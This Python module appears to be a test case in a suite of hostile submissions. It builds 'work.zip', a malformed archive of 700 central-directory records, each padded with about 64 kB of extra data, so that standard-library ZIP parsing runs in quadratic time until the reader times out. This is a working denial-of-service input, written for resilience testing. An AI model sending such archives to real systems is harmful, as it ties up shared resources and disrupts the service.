"""Hands in an archive that is only a list of files, each with 64 kB of what is said about it

Route: archives
Tries: to keep whoever opens it busy: the standard library takes what is said apart in quadratic time
Holds: The process that reads runs out of time; the submission costs itself and nobody else.
"""

from __future__ import annotations

import struct
from pathlib import Path


def make(folder: Path, base: dict[str, str]) -> None:
    count, extra = 700, bytes(65_532)
    record = struct.pack("<6H3L5H2L", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, len(extra), 0, 0, 0, 0, 0)
    records = (b"PK\x01\x02" + record + b"a" + extra) * count
    end = b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, count, count, len(records), 0, 0)
    (folder / "work.zip").write_bytes(records + end)
